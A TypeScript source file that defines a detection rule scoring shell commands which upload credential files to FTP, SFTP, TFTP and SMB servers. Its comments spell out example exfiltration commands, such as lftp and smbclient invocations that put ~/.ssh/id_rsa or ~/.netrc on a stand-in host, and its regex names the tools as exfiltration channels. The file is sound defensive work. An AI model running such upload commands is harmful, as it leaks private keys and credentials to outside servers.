import { type AnchoredCommand, commandAt, EXE_SUFFIX } from './anchored-command.js';
import { fedTexts } from './here-documents.js';
import type { PayloadRule } from './payload-rule.js';
import { createPipelineReader } from './pipeline-reader.js';
import { commandName, isSensitivePath, withoutRedirections } from './sensitive-sources.js';
import { readScript, type ShellWord } from './shell-words.js';

// Credential files put on FTP, SFTP, TFTP and SMB servers. These clients take their commands from a
// script option (lftp(1) `-e`/`-c`, smbclient(1) `-c`, tftp-hpa `-c`), from standard input (a
// here-document, a here-string, `echo … |`), or on the command line (Windows `tftp -i host PUT file`),
// and send local files with `put`, `mput`, `reput`, `send`, `append` or `mirror -R`:
// `lftp -e 'put ~/.ssh/id_rsa; bye' ftp.x`, `smbclient //h/s -c 'put ~/.ssh/id_rsa'`,
// `ftp -n h <<EOF … put ~/.netrc … EOF`. `ncftpput` and `wput` take the local files as operands.
// Downloads (`get`, `mirror`), ordinary files and a key used to log in (`sftp -i key host`) send no secret.

const TRANSFER_NAMES = new Set(['ftp', 'lftp', 'sftp', 'tftp', 'smbclient', 'ncftpput', 'wput']);

/** Client commands that send local files. */
const PUT_VERBS = new Set(['put', 'mput', 'reput', 'send', 'append']);

/** Options whose value is a script of client commands, per client. */
const SCRIPT_OPTIONS: Readonly<Record<string, readonly string[]>> = {
  lftp: ['-e', '-c'],
  smbclient: ['-c', '--command'],
  tftp: ['-c'],
};

/** Commands that print their words (as a client's standard input). */
const PRINTERS = new Set(['echo', 'printf']);

/** True when one client command sends a secret: `put <secret> …`, `mirror -R <secret folder>`. */
function sendsSecret(words: readonly string[]): boolean {
  for (let index = 0; index < words.length; index++) {
    // `$'put key'` (ANSI-C quoting) reads as `$put key`.
    const word = words[index]!;
    const verb = (word.startsWith('$') ? word.slice(1) : word).toLowerCase();
    const reverse = verb === 'mirror' && words.some((word) => word === '-R' || word === '--reverse');
    if (!PUT_VERBS.has(verb) && !reverse) continue;
    return words.slice(index + 1).some(isSensitivePath);
  }
  return false;
}

/** True when a script of client commands (lines or `;`-separated) sends a secret. */
function scriptSendsSecret(script: string): boolean {
  // `printf 'put key\n'`: the escaped line breaks separate commands too.
  const lines = script.includes('\\n') ? script.replaceAll('\\n', '\n') : script;
  return readScript(lines).some((command) => sendsSecret(command.map((word) => word.value)));
}

/** The words printed into a client by `echo`/`printf` commands piped into it, one script per command. */
function printedScripts(before: readonly ShellWord[][]): string[] {
  const scripts: string[] = [];
  for (const command of before) {
    const name = commandName(command);
    if (name === undefined || !PRINTERS.has(name.name)) continue;
    const rest = withoutRedirections(command.slice(name.at + 1)).map((word) => word.value);
    scripts.push(rest.filter((value) => !value.startsWith('-')).join(' '));
  }
  return scripts;
}

/** The score of a file transfer client command (`name` lower-cased, without `.exe`). */
export function fileTransferScore(name: string, anchored: AnchoredCommand): number | undefined {
  const values = withoutRedirections(anchored.after).map((word) => word.value);
  if (name === 'ncftpput' || name === 'wput') {
    return values.some((value) => !value.startsWith('-') && isSensitivePath(value)) ? 0.9 : undefined;
  }
  const scripts: string[] = [];
  const options = SCRIPT_OPTIONS[name] ?? [];
  values.forEach((value, index) => {
    if (options.includes(value) && values[index + 1] !== undefined) scripts.push(values[index + 1]!);
  });
  if (scripts.some(scriptSendsSecret)) return 0.9;
  // `tftp -i host PUT file`, `tftp host -c put file`: the command on the command line.
  if (name === 'tftp' && sendsSecret(values)) return 0.9;
  const fed = [...fedTexts(anchored.text, anchored.command), ...printedScripts(anchored.before)];
  return fed.some(scriptSendsSecret) ? 0.9 : undefined;
}

const reader = createPipelineReader();

/** Secrets put on FTP, SFTP, TFTP and SMB servers. */
export const FILE_TRANSFER_EXFILTRATION_RULE: PayloadRule = {
  id: 'output.shell-exfil-file-transfer',
  type: 'SHELL_EXFILTRATION',
  pattern: /\b(?:s?ftp|lftp|tftp|smbclient|ncftpput|wput)(?:\.exe)?\s/,
  score: 0.9,
  // `ftp` stands in every name but smbclient's and wput's.
  hints: ['ftp', 'smbclient', 'wput'],
  // A put command or a file operand: both hold a path character.
  textFilter: (text) => text.includes('/') || text.includes('\\') || text.includes('.'),
  confirm: ({ text, start }) => {
    const anchored = commandAt({ reader, text, start, names: TRANSFER_NAMES });
    const command = commandName(anchored.command);
    if (command === undefined || anchored.command[command.at]?.start !== start) return undefined;
    return fileTransferScore(command.name.replace(EXE_SUFFIX, ''), anchored);
  },
};
